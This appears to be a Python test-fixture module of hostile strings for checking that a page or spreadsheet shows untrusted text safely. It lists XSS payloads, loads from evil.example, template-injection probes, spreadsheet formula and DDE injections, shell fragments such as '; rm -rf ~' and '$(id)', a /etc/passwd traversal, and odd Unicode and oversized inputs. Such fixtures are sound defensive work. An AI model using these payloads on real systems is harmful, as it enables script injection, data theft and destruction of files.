"""Texts that mean harm to a page, a spreadsheet or a reader. Each is to be shown as the text that it is.

`TEXTS` are written one by one, by what they try; `texts()` adds each way out of markup joined to each thing to run, so
that no pairing is forgotten.
"""

from __future__ import annotations

SCRIPTS = (
    "<script>alert(1)</script>", "<SCRIPT>alert(1)</SCRIPT>", "<script src=https://evil.example/x.js></script>",
    "<script\t>alert(1)</script\n>", "<scr<script>ipt>alert(1)</scr</script>ipt>", "<script>window.__ran.push(1)</script>",
    "<script type=module>import('https://evil.example/')</script>", "<svg><script>alert(1)</script></svg>",
    "<svg><script href='data:text/javascript,alert(1)'/></svg>", "<math><mtext><script>alert(1)</script>",
    "<script nonce=abc>alert(1)</script>", "<script>/*", "*/alert(1)</script>", "<script x=\"</script>\">alert(1)</script>",
    "<<script>alert(1);//<</script>", "<script/xss>alert(1)</script>", "\u003cscript\u003ealert(1)\u003c/script\u003e",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e", "\\x3cscript\\x3ealert(1)", "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;", "&#x3c;script&#x3e;alert(1)", "%3Cscript%3Ealert(1)%3C/script%3E",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "＜script＞alert(1)＜/script＞", "‹script›alert(1)‹/script›",
)  # fmt: skip

EVENTS = (
    "<img src=x onerror=alert(1)>", "<img src=x onerror='alert(1)'", "<svg onload=alert(1)>", "<svg/onload=alert(1)//",
    "<body onload=alert(1)>", "<input autofocus onfocus=alert(1)>", "<details open ontoggle=alert(1)>", "<video><source onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>", "<marquee onstart=alert(1)>", "<select autofocus onfocus=alert(1)>", "<textarea autofocus onfocus=alert(1)>",
    "<a onmouseover=alert(1)>hover</a>", "<div onpointerenter=alert(1) style='position:fixed;inset:0'>", "<x contenteditable onblur=alert(1)>lose focus</x>",
    "<style>@keyframes x{}</style><x style='animation-name:x' onanimationstart=alert(1)>", "<iframe onload=alert(1)>", "<object onerror=alert(1) data=x>",
    "<img/src=`x`onerror=alert(1)>", "<IMG SRC=x ONERROR=&#97;&#108;&#101;&#114;&#116;(1)>", "<p hidden=until-found onbeforematch=alert(1)>x</p>",
    "<dialog open onclose=alert(1)><form method=dialog><button autofocus>",
)  # fmt: skip

LOADS = (
    "<img src=https://evil.example/pixel.gif>", "<img srcset='https://evil.example/a 1x'>", "<link rel=stylesheet href=https://evil.example/a.css>",
    "<link rel=prefetch href=https://evil.example/>", "<link rel=dns-prefetch href=//evil.example>", "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href=https://evil.example/>", "<iframe src=https://evil.example/></iframe>", "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=https://evil.example/></object>", "<embed src=https://evil.example/>", "<form action=https://evil.example/><button autofocus>Send</form>",
    "<video poster=https://evil.example/p.jpg>", "<style>@import 'https://evil.example/a.css';</style>", "<style>*{background:url(https://evil.example/)}</style>",
    "<div style=\"background:url('https://evil.example/')\">x</div>", "<svg><image href=https://evil.example/x.png /></svg>", "<svg><use href='https://evil.example/x.svg#a'/></svg>",
    "<portal src=https://evil.example/>", "<table background=https://evil.example/x.gif>", "<input type=image src=https://evil.example/x>",
    "<a href=https://evil.example/ ping=https://evil.example/ping>x</a>", "<a href=javascript:alert(1)>click</a>", "<a href='java\tscript:alert(1)'>click</a>",
    "<a href=data:text/html,<script>alert(1)</script>>click</a>", "<!--[if IE]><script>alert(1)</script><![endif]-->", "<?xml-stylesheet href='https://evil.example/a.xsl'?>",
)  # fmt: skip

WAYS_OUT = (
    "", '"', "'", '">', "'>", "`", "-->", "<!--", "]]>", "</p>", "</div>", "</article>", "</noscript>", "</template>", "</script>", "</style>",
    "</title>", "</textarea>", "</svg>", "<!--p-->", "\\", '\\"', "\n", "\r\n", "\x00", "\u2028", "</body></html>", "<plaintext>", "</NOSCRIPT\t>",
    "</noscript/>", "</ script>", "{{", "{%", "${",
)  # fmt: skip

TEMPLATES = (
    "{{ 7*7 }}", "{{ result.__class__ }}", "{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}", "{# comment #}", "${7*7}", "#{7*7}", "<%= 7*7 %>",
    "{{constructor.constructor('alert(1)')()}}", "%s%s%s%n", "{0.__class__}", "{n}", "{posts}", "$(id)", "`id`", "; rm -rf ~", "../../etc/passwd", "\\\\evil.example\\share",
)  # fmt: skip

FORMULAS = (
    "=1+1", "+1+1", "-1+1", "@SUM(1+1)", "=HYPERLINK(\"https://evil.example/\",\"click\")", "=cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "＝1+1", "＋1+1", "－1+1",
    "＠SUM(1)", "=IMPORTXML(\"https://evil.example/\",\"//a\")", "\"=1+1", "'=1+1", ";=1+1", ",=1+1", "|calc", "%0A=1+1", "=DDE(\"cmd\",\"/C calc\",\"x\")",
)  # fmt: skip

UNICODE = (
    "\u202eegassem terces\u202c", "\u202dleft\u202c", "\u2067\u2067\u2067never closed", "\u2066\u202e\u2069nested\u202e", "\u200f\u200e\u200fmarks", "\u200b\u200bzero\u200bwidth\u200b",
    "\ufeffbyte order mark", "\u00adsoft\u00adhyphen", "\u2060word\u2060joiner", "a\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309" * 20, "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘!͖̬̰̙̗̿̋ͥͥ̂ͣ̐́́͜͞",
    "👩‍👩‍👧‍👦", "👨🏿‍🚀👩🏻‍🦽‍➡️", "🏴󠁧󠁢󠁷󠁬󠁳󠁿", "🇬🇧🇬", "❤️‍🔥" * 50, "שלום עולם", "مرحبا بالعالم", "abc שלום 123 مرحبا def", "\U000e0001\U000e0041tag", "𝕳𝖊𝖑𝖑𝖔", "ﷺ﷽",
    "\x07bell \x1b[31mred\x1b[0m", "\x7f\x80\x9f", "null \x00 null", "line\u2028separator\u2029", "\x85next line", "\x0b\x0c", "lone \ud83d half", "\udc00 other half", "\ufffe\uffff",
    "\U0010ffff", "ı İ ß ﬃ", "Ⅷ ㎏ ½", "ก็็็็็็็็็็็็็็็็็็็็", "྿༘༙༚༛",
)  # fmt: skip

SHAPES = (
    "x" * 100_000, "word " * 20_000, "<" * 10_000, "&" * 10_000, "&amp;" * 3_000, "\n" * 3_000, "<b>" * 3_000, "\u202e" * 2_000, "👩‍👩‍👧‍👦" * 3_000, "\u0301" * 10_000,
    " " * 5_000 + ".", "\t" * 1_000, "https://" + "a" * 5_000 + ".example/", "a\n" * 2_000,
)  # fmt: skip

TEXTS = (*SCRIPTS, *EVENTS, *LOADS, *TEMPLATES, *FORMULAS, *UNICODE, *SHAPES)


def texts() -> list[str]:
    """All of them."""
    run = ("<script>alert(1)</script>", "<img src=x onerror=alert(1)>", '" autofocus onfocus=alert(1) x="')
    return [*TEXTS, *(way + bad for way in WAYS_OUT for bad in run)]
